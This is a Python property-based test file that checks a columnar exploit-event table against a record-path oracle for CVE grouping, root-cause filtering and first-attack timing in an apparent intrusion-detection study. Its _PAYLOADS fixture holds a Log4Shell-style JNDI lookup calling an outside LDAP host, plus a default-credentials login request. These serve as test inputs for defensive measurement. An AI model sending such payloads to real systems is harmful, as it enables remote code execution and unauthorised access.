"""The event table against the record-by-record event path.

``repro.lifecycle.exploit_events.EventTable`` replaced one
``ExploitEvent`` named tuple per attributed alert: events, their grouping
by CVE, root-cause analysis, first attacks, the kept events and the
shard's event columns all read its columns now.  ``tests/event_oracle.py``
keeps the record path; every test here asserts ``==`` against it, on
alerts with unsorted times, times tied within a CVE and across CVEs at the
same microsecond, unattributed alerts, CVEs with no events, empty tables
and aware (zoned) times.

Mutants of the column path these tests catch (each was applied to a copy
of the source and this file run against it):

* ``np.searchsorted(..., side="left")`` (``bisect_left``) in place of
  ``side="right"`` in ``core/perevent.py::per_event_satisfaction`` fails
  ``test_per_event_satisfaction_equals_oracle``;
* code order in place of CVE-id order: ranking ``EventTable.by_cve``'s
  groups by interned code (first appearance) fails
  ``test_groups_equal_oracle``, ``test_kept_events_equal_oracle`` and
  ``test_many_ties_keep_row_order``; breaking ``kept_events``' time ties by
  code (``np.lexsort((codes, t))``) fails
  ``test_derive_analysis_equals_oracle``, ``test_kept_events_equal_oracle``
  and ``test_many_ties_keep_row_order``;
* an unstable sort: ``kind="quicksort"`` in ``EventTable.time_sorted``
  fails ``test_derive_analysis_equals_oracle``,
  ``test_kept_events_equal_oracle`` and ``test_many_ties_keep_row_order``;
  a quicksort ``np.argsort`` of a combined (id rank, time) key in place of
  the stable ``np.lexsort`` in ``by_cve`` fails those three and
  ``test_groups_equal_oracle`` and ``test_rca_equals_oracle``.
"""

from __future__ import annotations

import random
from datetime import timedelta, timezone
from functools import lru_cache

import numpy as np
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.analysis.pipeline import derive_analysis
from repro.analysis.streaming import StudySnapshot
from repro.core.perevent import per_event_satisfaction
from repro.datasets.loader import build_bundle
from repro.datasets.sources import default_plan
from repro.lifecycle.assembly import assemble_timelines
from repro.lifecycle.events import CveTimeline, LifecycleEvent
from repro.lifecycle.exploit_events import EventTable, kept_events
from repro.lifecycle.rca import RootCauseAnalysis
from repro.nids.ruleset import Alert
from repro.store.columnar import AlertTable, ColumnarStudy, Interner
from repro.util.timeutil import utc

from tests import artifact_oracle, event_oracle as oracle

T0 = utc(2022, 1, 1)
#: Two studied CVEs (so timelines pick up first attacks), two that are
#: not, in an order where first appearance rarely matches id order.
_CVES = ("CVE-2022-26134", "CVE-FAKE-2", "CVE-2021-44228", "CVE-FAKE-1")
_PAYLOADS = (
    b"GET /?x=${jndi:ldap://1.2.3.4/a} HTTP/1.1\r\n\r\n",
    b"POST /login.cgi HTTP/1.1\r\n\r\nusername=admin&password=123456",
)
_ZONE = timezone(timedelta(hours=5, minutes=30))


@lru_cache(maxsize=1)
def _bundle():
    return build_bundle(default_plan(background_count=100))


@st.composite
def _alerts(draw, *, zoned=False):
    """Alerts in arrival order with few distinct times (seconds 0-3 plus
    0, 1 or 999,999 µs) so ties within and across CVEs are common, rule
    publications tied with the alert, and unattributed alerts."""
    zone = _ZONE if zoned else None
    alerts = []
    for session_id in range(draw(st.integers(0, 40))):
        when = T0 + timedelta(
            seconds=draw(st.integers(0, 3)),
            microseconds=draw(st.sampled_from([0, 1, 999_999])),
        )
        published = when + timedelta(seconds=draw(st.integers(-1, 1)))
        alerts.append(Alert(
            session_id=session_id,
            timestamp=when.replace(tzinfo=zone),
            sid=draw(st.integers(1, 3)),
            cve_id=draw(st.sampled_from(_CVES) | st.none()),
            rule_published=published.replace(tzinfo=zone),
            dst_ip=draw(st.integers(0, 2**32 - 1)),
            dst_port=draw(st.sampled_from([80, 443, 8090])),
            src_ip=draw(st.integers(0, 2**32 - 1)),
        ))
    return alerts


def _with_unused_cve(alerts):
    """The alerts' table with a CVE (first in code order) no row names."""
    table = AlertTable.pack(alerts)
    codes = table.columns["alert_cve"]
    columns = {
        **table.columns,
        "alert_cve": np.where(codes >= 0, codes + 1, -1).astype(np.int32),
    }
    return AlertTable(columns, ["CVE-0000-0000", *table.cves], zones=table.zones)


_tables = st.one_of(
    _alerts(), _alerts(zoned=True), _alerts().map(_with_unused_cve)
)


@settings(max_examples=300, deadline=None)
@given(_tables)
def test_events_equal_oracle(alerts):
    events = EventTable.from_alerts(alerts)
    expected = oracle.events_from_alerts(list(alerts))
    assert events == expected
    assert len(events) == len(expected)
    assert [events[index] for index in range(-len(events), 0)] == expected
    assert list(events[1::2]) == expected[1::2]


@settings(max_examples=300, deadline=None)
@given(_tables)
def test_groups_equal_oracle(alerts):
    grouped = EventTable.from_alerts(alerts).by_cve()
    expected = sorted(
        oracle.events_by_cve(oracle.events_from_alerts(list(alerts))).items()
    )
    assert list(grouped) == [cve_id for cve_id, _ in expected]
    assert list(grouped.items()) == expected


@settings(max_examples=300, deadline=None)
@given(_tables)
def test_first_attacks_equal_oracle(alerts):
    events = EventTable.from_alerts(alerts)
    expected = oracle.first_attacks(oracle.events_from_alerts(list(alerts)))
    assert events.first_attacks() == expected
    assert events.time_sorted().first_attacks() == expected


@settings(max_examples=200, deadline=None)
@given(_tables, st.integers(1, 4), st.sampled_from([0.25, 0.5, 1.0]), st.data())
def test_rca_equals_oracle(alerts, sample, threshold, data):
    payloads = {
        alert.session_id: data.draw(st.sampled_from(_PAYLOADS))
        for alert in alerts
    }
    rca = RootCauseAnalysis(
        payloads, exploit_threshold=threshold, leading_sample=sample
    )
    kept, decisions = rca.filter(EventTable.from_alerts(alerts).by_cve())
    expected_kept, expected_decisions = oracle.rca_filter(
        oracle.events_by_cve(oracle.events_from_alerts(list(alerts))),
        payloads, exploit_threshold=threshold, leading_sample=sample,
    )
    assert decisions == expected_decisions
    assert list(kept.items()) == list(expected_kept.items())


def _oracle_analysis(alerts, payloads):
    events = oracle.events_from_alerts(list(alerts))
    kept, decisions = oracle.rca_filter(oracle.events_by_cve(events), payloads)
    kept_list = oracle.kept_events(kept)
    timelines = assemble_timelines(_bundle(), oracle.first_attacks(kept_list))
    return events, kept, decisions, timelines, kept_list


@settings(max_examples=100, deadline=None)
@given(_tables, st.data())
def test_derive_analysis_equals_oracle(alerts, data):
    payloads = {
        alert.session_id: data.draw(st.sampled_from(_PAYLOADS))
        for alert in alerts
    }
    analysis = derive_analysis(_bundle(), alerts, payloads)
    events, kept, decisions, timelines, kept_list = _oracle_analysis(
        alerts, payloads
    )
    assert analysis.events == events
    assert list(analysis.events_per_cve) == list(kept)
    assert analysis.events_per_cve == kept
    assert analysis.rca_decisions == decisions
    assert analysis.timelines == timelines
    assert kept_events(analysis.events_per_cve) == kept_list


@settings(max_examples=300, deadline=None)
@given(_tables)
def test_kept_events_equal_oracle(alerts):
    grouped = EventTable.from_alerts(alerts).by_cve()
    expected = oracle.kept_events(
        dict(sorted(oracle.events_by_cve(
            oracle.events_from_alerts(list(alerts))
        ).items()))
    )
    assert kept_events(grouped) == expected
    snapshot = StudySnapshot(
        sessions_seen=0, alerts=alerts, events=[], events_per_cve=grouped,
        rca_decisions=[], timelines={}, stats=None,
    )
    assert snapshot.kept_events == expected


@settings(max_examples=200, deadline=None)
@given(st.one_of(_alerts(), _alerts().map(_with_unused_cve)))
def test_columnar_event_columns_equal_oracle(alerts):
    analysis = derive_analysis(_bundle(), alerts, {})
    kept = kept_events(analysis.events_per_cve)
    packed = ColumnarStudy._pack(
        etag="e", code="c", config={}, timelines={}, alerts=alerts,
        kept_events=kept, rca_decisions=analysis.rca_decisions,
        bundle=_bundle(), sessions=0, events_total=len(analysis.events),
    )
    cves = Interner()
    AlertTable.pack(alerts).columns_into(cves)
    expected = oracle.event_columns(list(kept), cves)
    for name, column in expected.items():
        assert packed.columns[name].dtype == column.dtype, name
        assert packed.columns[name].tolist() == column.tolist(), name
    assert packed.cves[:len(cves.values)] == cves.values
    assert packed.meta["counts"]["kept_events"] == len(kept)


@settings(max_examples=300, deadline=None)
@given(_tables, st.data())
def test_per_event_satisfaction_equals_oracle(alerts, data):
    """Table 5 with lifecycle times drawn from the event times: ties with
    A stay unsatisfied."""
    events = EventTable.from_alerts(alerts)
    if not len(events) or events.zone is not None:
        return
    times = sorted({event.timestamp for event in events})
    timelines = {
        cve_id: CveTimeline(cve_id=cve_id, times={
            event: data.draw(st.sampled_from(times) | st.none())
            for event in LifecycleEvent
        })
        for cve_id in _CVES[:3]
    }
    assert per_event_satisfaction(events, timelines) == \
        artifact_oracle.per_event_satisfaction(list(events), timelines)


def test_empty_table():
    events = EventTable.from_alerts([])
    assert len(events) == 0 and events == []
    assert events.by_cve() == {}
    assert events.first_attacks() == {}
    assert kept_events({}) == []
    assert EventTable.concat([]) == []


def test_many_ties_keep_row_order():
    """Hundreds of events tied on (CVE, time) and on time across CVEs,
    in shuffled arrival order: groups and kept events keep row order."""
    order = random.Random(7)
    alerts = []
    for session_id in range(600):
        when = T0 + timedelta(seconds=order.randrange(3))
        alerts.append(Alert(
            session_id=session_id, timestamp=when, sid=1,
            cve_id=order.choice(_CVES), rule_published=when,
            dst_ip=1, dst_port=80, src_ip=2,
        ))
    grouped = EventTable.from_alerts(alerts).by_cve()
    expected = dict(sorted(
        oracle.events_by_cve(oracle.events_from_alerts(alerts)).items()
    ))
    assert list(grouped.items()) == list(expected.items())
    assert kept_events(grouped) == oracle.kept_events(expected)
    assert EventTable.from_alerts(alerts).time_sorted() == sorted(
        oracle.events_from_alerts(alerts), key=lambda event: event.timestamp
    )
